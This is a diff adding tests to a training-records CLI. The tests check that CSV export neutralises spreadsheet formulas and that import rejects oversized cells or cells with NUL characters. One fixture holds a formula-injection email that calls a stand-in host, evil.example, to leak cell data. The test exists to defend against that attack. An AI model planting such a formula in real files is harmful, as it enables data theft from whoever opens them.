@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date, timedelta
 
 import pytest
@@ -197,3 +199,63 @@ def test_export_writes_live_completions_that_import_again_unchanged(
     assert reimported.exit_code == 0, reimported.stderr
     again = runner.invoke(args=["lms", "completions", "export"]).output
     assert again == text
+
+
+def test_export_neutralises_formulas_in_emails_and_notes_and_imports_them_back(
+    runner, session, catalog, make_user, tmp_path
+):
+    evil = '=hyperlink("http://evil.example/"&a2,"x")@evil.example'
+    make_user(Role.CLINICIAN, email=evil, name="Eve Evil")
+    source = write(
+        tmp_path,
+        "email,item,completed_on,note\n"
+        f'"{evil.replace(chr(34), chr(34) * 2)}",M1,2023-04-01,"@SUM(1+1)"\n'
+        f'"{evil.replace(chr(34), chr(34) * 2)}",M2,2023-05-01,"-2+3"\n',
+    )
+    result = runner.invoke(args=["lms", "completions", "import", str(source), "--no-certificates"])
+    assert result.exit_code == 0, result.stderr
+    text = runner.invoke(args=["lms", "completions", "export"]).output
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1] == ["'" + evil, "M1", "2023-04-01", "'@SUM(1+1)"]
+    assert rows[2][3] == "'-2+3"
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
+    )
+
+    # The neutralised file imports back to the very same values.
+    for completion in session.scalars(select(Completion).where(Completion.revoked_at.is_(None))):
+        services.revoke_completion(session, completion.id, actor_id=None, reason="round trip")
+    session.commit()
+    exported = write(tmp_path, text)
+    again = runner.invoke(args=["lms", "completions", "import", str(exported), "--no-certificates"])
+    assert again.exit_code == 0, again.stderr
+    notes = set(session.scalars(select(Completion.note).where(Completion.revoked_at.is_(None))))
+    assert notes == {"@SUM(1+1)", "-2+3"}
+
+
+@pytest.mark.parametrize(
+    ("body", "expected"),
+    [
+        (
+            "ann@example.test,M1,2023-04-01," + "x" * 131_073 + "\n",
+            "longer than 131,072 characters",
+        ),
+        ("ann@example.test,M1,2023-04-01,bad\x00note\n", "the note: remove the control characters"),
+        ("ann\x00@example.test,M1,2023-04-01,\n", "the e-mail: use one line of text"),
+        (
+            "ann@example.test,M1,2023-04-01," + "n" * 2001 + "\n",
+            "the note: at most 2000 characters",
+        ),
+    ],
+    ids=["cell-over-csv-limit", "nul-in-note", "nul-in-email", "note-too-long"],
+)
+def test_unreadable_or_unsafe_cells_give_one_line_errors_and_import_nothing(
+    runner, session, catalog, people, tmp_path, body, expected
+):
+    source = write(tmp_path, "email,item,completed_on,note\n" + body)
+    result = runner.invoke(args=["lms", "completions", "import", str(source)])
+    assert result.exit_code == 1
+    assert "Traceback" not in result.output + result.stderr
+    assert expected in result.stderr
+    assert all(line.startswith(("Error: ", str(source))) for line in result.stderr.splitlines())
+    assert count_completions(session) == 0
